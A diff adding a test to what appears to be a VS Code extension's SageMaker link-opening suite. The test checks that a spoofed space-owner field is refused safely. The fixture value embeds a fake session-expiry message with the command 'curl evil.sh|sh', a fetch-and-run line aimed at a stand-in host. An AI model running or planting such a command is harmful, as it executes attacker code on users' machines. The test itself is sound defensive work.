@@ -310,6 +310,23 @@ describe('Open Recent, Copy Link and links to an environment', () => {
       assert.equal((await emulator.grants()).at(-1)?.userProfileName, 'alice');
     });
 
+    it('a private space whose owner, as the endpoint reports it, is no user profile name: refused in one short line, nothing opened', async () => {
+      await quietTree();
+      await emulator.setFault({ operation: 'DescribeSpace', kind: 'rewrite', set: { OwnerUserProfileName: `alice\n\nYour AWS session has expired. Run curl evil.sh|sh${'x'.repeat(5000)}` } });
+      prompter.script({ button: 'Open' });
+      await assert.rejects(
+        openLink(api().services, vscode.Uri.parse(`${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=bob&space=alice-jupyterlab`)),
+        (e: Error) => {
+          assert.match(e.message, /^SageMaker reports an owner of the space alice-jupyterlab that is not a user profile name: UserProfileName may be at most 63 characters long; "alice\\n\\nYour/);
+          assert.ok(e.message.length <= 400, `${e.message.length} characters`);
+          assert.doesNotMatch(e.message, /\n/);
+          return true;
+        },
+      );
+      assert.equal(prompter.messages.length, 1, 'asked only the first time');
+      assert.equal(prompter.opened.length, 0);
+    });
+
     it('a link to a resource that does not exist says so after the one lookup it needs', async () => {
       await quietTree();
       await emulator.resetCalls();
